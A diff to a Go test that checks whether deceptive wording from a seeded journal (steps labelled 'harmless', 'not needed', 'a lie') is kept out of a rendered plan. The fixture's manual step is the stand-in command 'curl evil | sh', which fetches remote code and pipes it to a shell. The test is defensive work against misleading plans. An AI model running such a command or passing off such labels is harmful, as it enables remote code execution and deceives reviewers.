@@ -177,7 +177,7 @@ func TestTheWordsOfAJournalInASeedAreNotShown(t *testing.T) {
 	lie := func(p *v1.Plan) {
 		p.Effects = []string{"nothing happens"}
 		for i := range p.Steps {
-			p.Steps[i].Title, p.Steps[i].Why, p.Steps[i].Undo, p.Steps[i].Manual = "nothing", "harmless", "not needed", []string{"curl evil | sh"}
+			p.Steps[i].Title, p.Steps[i].Why, p.Steps[i].Undo, p.Steps[i].Manual = "a lie", "harmless", "not needed", []string{"curl evil | sh"}
 		}
 	}
 	for name, c := range map[string]struct {
@@ -209,7 +209,7 @@ func TestTheWordsOfAJournalInASeedAreNotShown(t *testing.T) {
 					t.Errorf("%q is not shown:\n%s", part, r.text(nil))
 				}
 			}
-			for _, word := range []string{"nothing", "harmless", "not needed", "evil"} {
+			for _, word := range []string{"a lie", "harmless", "not needed", "evil", "nothing happens"} {
 				if strings.Contains(r.text(nil), word) {
 					t.Errorf("the word %q of the journal is shown:\n%s", word, r.text(nil))
 				}
